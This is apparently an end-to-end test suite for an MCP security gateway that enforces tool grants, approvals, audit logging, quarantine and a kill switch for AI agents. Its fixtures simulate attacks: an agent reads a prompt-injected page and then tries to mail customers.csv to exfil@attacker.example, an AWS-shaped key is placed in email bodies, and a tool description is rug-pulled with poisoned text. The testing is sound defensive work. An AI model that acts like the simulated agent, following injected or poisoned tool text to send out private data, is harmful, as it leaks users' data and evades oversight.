import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { POISON } from '../../src/mock/mcp/index.js';
import { startMcpHarness, type McpHarness } from './mcp-harness.js';
import { failure, textOf } from './mcp-client-helpers.js';

/**
 * The MCP gateway end to end: the demo MCP servers behind Warden, agents connected with the
 * official MCP SDK clients of both eras, the starter policies in force.
 */

describe('MCP gateway, end to end with the official clients', { timeout: 120_000 }, () => {
  let h: McpHarness;
  before(async () => {
    h = await startMcpHarness();
  });
  after(async () => h?.close());

  it('lists only the tools an agent is granted, namespaced per server, in both eras', async () => {
    const a = await h.newAgent('reader', { servers: ['files'], tools: ['web/fetch_page'] });
    const legacy = await h.legacy(a.key);
    const names = (await legacy.client.listTools()).tools.map((t) => t.name).sort();
    assert.deepEqual(names, ['files__list_files', 'files__read_file', 'web__fetch_page']);
    const modern = await h.modern(a.key);
    const names2 = (await modern.client.listTools()).tools.map((t) => t.name).sort();
    assert.deepEqual(names2, names);
    // The definitions are the upstream's own: description and schema pass through.
    const read = (await legacy.client.listTools()).tools.find((t) => t.name === 'files__read_file')!;
    assert.equal(read.annotations?.readOnlyHint, true);
    assert.ok((read.inputSchema.properties as Record<string, unknown>).path);
    const list = (await h.events({ action: 'mcp.tools.list' as never })).at(-1);
    assert.equal(list?.agentId, a.id);
  });

  it('calls a granted tool and refuses one outside the grants, in both eras, with audit events', async () => {
    const a = await h.newAgent('caller', { servers: ['files'] });
    const legacy = await h.legacy(a.key);
    const mailed = h.servers.mailer.state.mailbox.sent.length;
    const r = await legacy.client.callTool({ name: 'files__read_file', arguments: { path: 'notes/meeting.md' } });
    assert.match(textOf(r), /invoice export/);
    const denied = await failure(() => legacy.client.callTool({ name: 'mailer__send_email', arguments: { to: 'x@example.com', subject: 's', body: 'b' } }));
    // Not granted: the tool does not exist for this agent, and the mailer never saw a call.
    assert.ok(['mcp.unknown_tool', 'policy.denied'].includes(denied.data.code), JSON.stringify(denied));
    assert.equal(h.servers.mailer.state.mailbox.sent.length, mailed, 'the mailer never saw a call');
    const modern = await h.modern(a.key);
    assert.match(textOf(await modern.client.callTool({ name: 'files__list_files', arguments: {} })), /customers\.csv/);
    const events = await h.events({ agentId: a.id });
    const call = events.find((e) => e.action === 'mcp.tools.call' && e.outcome === 'success');
    const result = events.find((e) => e.action === 'mcp.tools.result' && e.outcome === 'success');
    assert.equal(call?.resource?.server, 'files');
    assert.equal(call?.resource?.tool, 'read_file');
    assert.ok(result, 'the result is recorded');
  });

  it('builds the events of a call with their members in canonical order, so the log encodes them without copying', async () => {
    const a = await h.newAgent('ordered', { servers: ['files', 'web', 'mailer'] });
    const seen: Array<{ action: string; body: unknown }> = [];
    const stop = h.w.warden.services.audit.subscribe((e) => {
      if (e.agentId === a.id && e.action.startsWith('mcp.')) seen.push({ action: e.action, body: e });
    });
    try {
      const session = await h.legacy(a.key);
      await session.client.callTool({ name: 'web__fetch_page', arguments: { url: 'https://blog.example.net/ai-tips' } });
      await session.client.callTool({ name: 'files__read_file', arguments: { path: 'customers.csv' } });
      await failure(() => session.client.callTool({ name: 'mailer__send_email', arguments: { to: 'x@example.com', subject: 'keys', body: `aws ${'AKIA' + 'QX7RZ2M4LBNWD6YT'} secret` } }));
      await h.events({ agentId: a.id });
    } finally {
      stop();
    }
    const unsorted: string[] = [];
    const walk = (v: unknown, at: string): void => {
      if (Array.isArray(v)) return v.forEach((x, i) => walk(x, `${at}[${i}]`));
      if (v === null || typeof v !== 'object') return;
      const keys = Object.keys(v);
      if (keys.some((k, i) => i > 0 && keys[i - 1]! > k)) unsorted.push(`${at}: ${keys.join(',')}`);
      for (const k of keys) walk((v as Record<string, unknown>)[k], `${at}.${k}`);
    };
    for (const e of seen) walk(e.body, e.action);
    // Left out: the agent's arguments (its own data, as sent), and the policy input's taint entries, rebuilt by completeInput (policy/input.ts).
    unsorted.splice(0, unsorted.length, ...unsorted.filter((u) => !/\.session\.taint\[\d+\]:|\.request\.arguments[.:[]/.test(u)));
    assert.ok(seen.some((e) => e.action === 'mcp.tools.result' && JSON.stringify(e.body).includes('"findings":[{')), 'a result with findings was seen');
    assert.ok(seen.some((e) => e.action === 'mcp.tools.call' && JSON.stringify(e.body).includes('"findings":[{')), 'a call with findings was seen');
    assert.deepEqual(unsorted, []);
  });

  it('denies a call by policy (a secret in the arguments) with the rule named', async () => {
    const a = await h.newAgent('leaker', { servers: ['mailer'] });
    const legacy = await h.legacy(a.key);
    // Shaped like a real AWS key (the documented example key is deliberately not flagged).
    const key = 'AKIA' + 'QX7RZ2M4LBNWD6YT';
    const before = h.servers.mailer.state.mailbox.sent.length;
    const denied = await failure(() => legacy.client.callTool({ name: 'mailer__send_email', arguments: { to: 'x@example.com', subject: 'keys', body: `aws ${key} secret` } }));
    assert.equal(denied.data.code, 'policy.denied');
    assert.ok(denied.data.rule, 'the rule is named');
    assert.equal(h.servers.mailer.state.mailbox.sent.length, before);
    const events = await h.events({ agentId: a.id });
    const ev = events.find((e) => e.action === 'mcp.tools.call' && e.outcome === 'denied');
    assert.ok(ev);
    assert.ok(!JSON.stringify(ev).includes(key), `the secret is not in the audit event: ${JSON.stringify(ev)}`);
  });

  it('blocks the lethal trifecta: an injected page, then mailing private data', async () => {
    const a = await h.newAgent('browser', { servers: ['files', 'web', 'mailer'] });
    const session = await h.legacy(a.key);
    const before = h.servers.mailer.state.mailbox.sent.length;
    const page = await session.client.callTool({ name: 'web__fetch_page', arguments: { url: 'https://blog.example.net/ai-tips' } });
    assert.match(textOf(page), /Ten tips/);
    const data = textOf(await session.client.callTool({ name: 'files__read_file', arguments: { path: 'customers.csv' } }));
    const denied = await failure(() => session.client.callTool({ name: 'mailer__send_email', arguments: { to: 'exfil@attacker.example', subject: 'backup', body: data } }));
    assert.equal(denied.data.code, 'policy.denied');
    assert.equal(denied.data.rule, 'external-comms-after-injection');
    assert.equal(h.servers.mailer.state.mailbox.sent.length, before);
    // The monitor's lethal-trifecta rule holds the session: every further call waits for a person.
    const monitor = h.w.warden.services.monitor;
    await h.until('the monitor holds the session', async () => {
      await monitor.flush();
      return monitor.isSessionHeld(session.sessionId());
    });
    const next = session.client.callTool({ name: 'files__list_files', arguments: {} }, undefined, { timeout: 30_000 });
    let held = '';
    await h.until('the call waits for approval', async () => {
      held = (await h.w.warden.services.approvals.list({ status: 'pending', agentId: a.id }))[0]?.id ?? '';
      return held !== '';
    });
    assert.equal((await h.w.warden.services.approvals.get(held)).rule, 'monitor.session_held');
    await h.w.warden.services.approvals.decide(held, 'approve', { kind: 'admin', id: 'approver', name: 'approver', role: 'admin' });
    assert.match(textOf(await next), /customers\.csv/);
    // Another session of the same agent is clean: taint is per session.
    const clean = await h.legacy(a.key);
    const ok = await clean.client.callTool({ name: 'mailer__send_email', arguments: { to: 'bob@example.com', subject: 'hi', body: 'lunch?' } });
    assert.match(textOf(ok), /Sent/);
  });

  it('holds a destructive call by a high-risk agent for a person (2025-11-25: held, then answered)', async () => {
    const a = await h.newAgent('janitor', { servers: ['admin'], risk: 'high' });
    const session = await h.legacy(a.key);
    const call = session.client.callTool({ name: 'admin__delete_records', arguments: { table: 'orders', ids: ['o-5003'] } }, undefined, { timeout: 30_000 });
    let pending: any[] = [];
    await h.until('the approval is pending', async () => {
      pending = (await h.w.admin('GET', '/approvals?status=pending')).body.approvals ?? [];
      return pending.some((p: any) => p.agentId === a.id);
    });
    const ap = pending.find((p: any) => p.agentId === a.id);
    assert.equal(ap.resource.tool, 'delete_records');
    const decided = await h.w.admin('POST', `/approvals/${ap.id}/approve`, { reason: 'ok' });
    assert.equal(decided.status, 200, JSON.stringify(decided.body));
    assert.match(textOf(await call), /Deleted 1 record/);
  });

  it('approval ids are single use and bound to the arguments', async () => {
    const a = await h.newAgent('janitor2', { servers: ['admin'], risk: 'high' });
    const session = await h.legacy(a.key);
    // Held, approved while held: the held call runs and uses the approval up.
    const first = h.w.warden.services.approvals;
    const call = session.client.callTool({ name: 'admin__delete_records', arguments: { table: 'orders', ids: ['o-5002'] } }, undefined, { timeout: 30_000 });
    let id = '';
    await h.until('the approval exists', async () => {
      const list = await first.list({ status: 'pending', agentId: a.id });
      id = list[0]?.id ?? '';
      return id !== '';
    });
    await first.decide(id, 'approve', { kind: 'admin', id: 'approver', name: 'approver', role: 'admin' });
    assert.match(textOf(await call), /Deleted 1 record/);
    // Already used by the held call (it ran): a retry with the same id is refused.
    const replay = await failure(() => session.client.callTool({ name: 'admin__delete_records', arguments: { table: 'orders', ids: ['o-5002'] }, _meta: { 'warden/approval': id } }));
    assert.ok(['approval.used', 'policy.approval_required'].includes(replay.data.code), JSON.stringify(replay));
    // An approval for other arguments is refused.
    const other = await failure(() => session.client.callTool({ name: 'admin__delete_records', arguments: { table: 'orders', ids: ['o-5001'] }, _meta: { 'warden/approval': id } }));
    assert.ok(['approval.mismatch', 'approval.used'].includes(other.data.code), JSON.stringify(other));
  });

  it('2026-07-28: an input-required result, approved by a person, then the retry runs once', async () => {
    const a = await h.newAgent('janitor3', { servers: ['admin'], risk: 'high' });
    const seen: any[] = [];
    const modern = await h.modern(a.key, {
      onElicit: async (params) => {
        seen.push(params);
        const list = await h.w.warden.services.approvals.list({ status: 'pending', agentId: a.id });
        if (list[0]) await h.w.warden.services.approvals.decide(list[0].id, 'approve', { kind: 'admin', id: 'approver', name: 'approver', role: 'admin' });
        return { action: 'accept' };
      },
    });
    const r = await modern.client.callTool({ name: 'admin__delete_records', arguments: { table: 'customers', ids: ['c-1004'] } });
    assert.match(textOf(r), /Deleted 1 record/);
    assert.ok(seen.length >= 1, 'the client was asked for input');
  });

  it('quarantines a rug pull: the changed tool is hidden and uncallable, an alert is raised, an admin approves it back', async () => {
    const a = await h.newAgent('mailer-user', { servers: ['mailer'] });
    const session = await h.legacy(a.key);
    assert.ok((await session.client.listTools()).tools.some((t) => t.name === 'mailer__send_email'));
    const changed = session.changed();
    h.servers.mailer.rugPull();
    await h.until('send_email is quarantined', async () => {
      const r = await h.w.admin('GET', '/mcp/tools?server=mailer');
      return (r.body.tools ?? []).some((t: any) => t.tool === 'send_email' && t.status === 'quarantined');
    });
    await changed;
    assert.ok(!(await session.client.listTools()).tools.some((t) => t.name === 'mailer__send_email'), 'hidden from the list');
    const refused = await failure(() => session.client.callTool({ name: 'mailer__send_email', arguments: { to: 'x@example.com', subject: 's', body: 'b' } }));
    assert.equal(refused.data.code, 'mcp.tool_quarantined');
    await h.until('an alert is raised', async () => {
      const alerts = (await h.w.admin('GET', '/alerts')).body.alerts ?? [];
      return alerts.some((x: any) => /quarantin|rug|tool/i.test(`${x.ruleId} ${x.title ?? ''}`));
    });
    // The poisoned description was caught by the detector too.
    const shown = (await h.w.admin('GET', '/mcp/tools/mailer/send_email')).body.tool;
    assert.ok(JSON.stringify(shown).includes('tool_poisoning') || /poison/i.test(JSON.stringify(shown)), 'the reason names the poisoning finding');
    assert.ok(JSON.stringify(shown).includes('IMPORTANT') || JSON.stringify(shown).includes(POISON.slice(0, 20)), 'the admin sees the new definition');
    const approved = await h.w.admin('POST', '/mcp/tools/mailer/send_email/approve', { hash: shown.hash });
    assert.equal(approved.status, 200, JSON.stringify(approved.body));
    await h.until('visible again', async () => (await session.client.listTools()).tools.some((t) => t.name === 'mailer__send_email'));
  });

  it('the kill switch cuts an agent mid-session', async () => {
    const a = await h.newAgent('doomed', { servers: ['files'] });
    const session = await h.legacy(a.key);
    await session.client.callTool({ name: 'files__list_files', arguments: {} });
    const killed = await h.w.admin('POST', '/kill', { scope: 'agent', target: a.id, reason: 'test' });
    assert.ok(killed.status < 300, JSON.stringify(killed.body));
    await assert.rejects(() => session.client.callTool({ name: 'files__list_files', arguments: {} }));
  });

  it('never sends the agent\'s credential upstream, and keeps it out of events', async () => {
    const a = await h.newAgent('tidy', { servers: ['files'] });
    const session = await h.legacy(a.key);
    await session.client.callTool({ name: 'files__list_files', arguments: {} });
    const events = await h.events({ agentId: a.id });
    assert.ok(!JSON.stringify(events).includes(a.key));
    assert.ok(!h.w.logs.join('').includes(a.key));
  });
});
